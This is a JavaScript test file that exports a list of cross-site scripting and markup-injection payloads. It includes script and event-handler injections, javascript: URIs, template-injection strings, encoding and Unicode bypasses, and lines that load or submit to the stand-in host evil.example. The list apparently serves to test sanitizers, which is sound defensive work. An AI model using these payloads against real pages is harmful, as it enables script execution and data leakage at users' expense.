// Texts that attack pages: markup, attributes, scripts, styles, templates, JSON, addresses, and marks
// that hide or turn text.
const tags = ['script', 'img', 'svg', 'iframe', 'body', 'input', 'video', 'audio', 'details', 'marquee', 'object', 'embed', 'math', 'style', 'link', 'meta', 'base', 'form', 'button', 'textarea'];
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter'];

export const payloads = [
    '<script>hit(1)</script>', '"><script>hit(2)</script>', "'><script>hit(3)</script>", '</script><script>hit(4)</script>', '</title><script>hit(5)</script>',
    '</textarea><script>hit(6)</script>', '</style><script>hit(7)</script>', '--><script>hit(8)</script>', '<!--<script>hit(9)//--></script>', '<scr<script>ipt>hit(10)</scr</script>ipt>',
    '<img src=x onerror=hit(11)>', '<img src=x onerror="hit(12)">', '" onerror="hit(13)" x="', "' onmouseover='hit(14)' x='", '` onfocus=`hit(15)`', '" autofocus onfocus="hit(16)', '"onclick=hit(17)//',
    '<svg onload=hit(18)>', '<svg><script>hit(19)</script></svg>', '<svg><animate onbegin=hit(20) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=hit(21)/>#x">', '<svg><foreignObject><iframe onload=hit(22)>',
    '<math><mtext><table><mglyph><style><img src onerror=hit(23)>', '<iframe srcdoc="<script>parent.hit(24)</script>">', '<iframe src="javascript:parent.hit(25)">', '<object data="data:text/html,<script>hit(26)</script>">',
    '<embed src="data:image/svg+xml;base64,PHN2Zy8+">', '<body onload=hit(27)>', '<details open ontoggle=hit(28)>', '<video src=x onerror=hit(29)>', '<video poster="javascript:hit(30)">', '<audio src onloadstart=hit(31)>',
    '<a href="javascript:hit(32)">x</a>', 'javascript:hit(33)', 'JaVaScRiPt:hit(34)', 'data:text/html,<script>hit(35)</script>', 'vbscript:hit(36)', '<a href="&#106;avascript:hit(37)">x</a>', 'java\tscript:hit(38)',
    '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css"</style>',
    '<style>*{background:url(https://evil.example/x)}</style>', 'style="background:url(https://evil.example/y)"', 'expression(hit(39))', '<form action=https://evil.example><input name=q>', '<button formaction=javascript:hit(40)>',
    '<input autofocus onfocus=hit(41)>', '<img src="https://evil.example/pixel.png">', '<img srcset="https://evil.example/a 1x">', '<source src=//evil.example/x>', '<input type=image src=//evil.example/x>',
    '{{constructor.constructor("hit(42)")()}}', '${hit(43)}', '#{hit(44)}', '<%= hit(45) %>', '{{{raw}}}', '{{>icons.html}}', '{{#cards}}x{{/cards}}', '[[${hit(46)}]]', '{%raw%}',
    '\\"><script>hit(47)</script>', '\\u003cscript\\u003ehit(48)\\u003c/script\\u003e', '"},"title":"x"},{"a":"', ']]><script>hit(49)</script>', '\u2028hit(50)\u2029', '&lt;script&gt;hit(51)&lt;/script&gt;', '&#60;script&#62;hit(52)', '%3Cscript%3Ehit(53)%3C/script%3E',
    '+ADw-script+AD4-hit(54)+ADw-/script+AD4-', '<\u0000script>hit(55)</script>', '\u202Egnp.tpircs\u202C', '\u2066<script>\u2069', 'видимый\u200B\u200Cтекст\u2060', '\uFEFFначало', 'A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(6), 'طويل عكس الاتجاه', '\u{1F469}\u200D\u{1F4BB}'.repeat(8),
    'я'.repeat(200), '<' .repeat(60), '"'.repeat(60), "'".repeat(60), '&'.repeat(60), '\\'.repeat(60), '`'.repeat(60), '</'.repeat(30), '<!'.repeat(30), '<?php hit(56) ?>', '__proto__', 'constructor', 'hasOwnProperty', 'null', 'undefined', 'NaN', '0', 'true',
    ...tags.map((tag, i) => `<${tag} ${handlers[i % handlers.length]}=hit(${100 + i})>`), ...handlers.map((name, i) => `"${name}=hit(${200 + i}) "`),
];
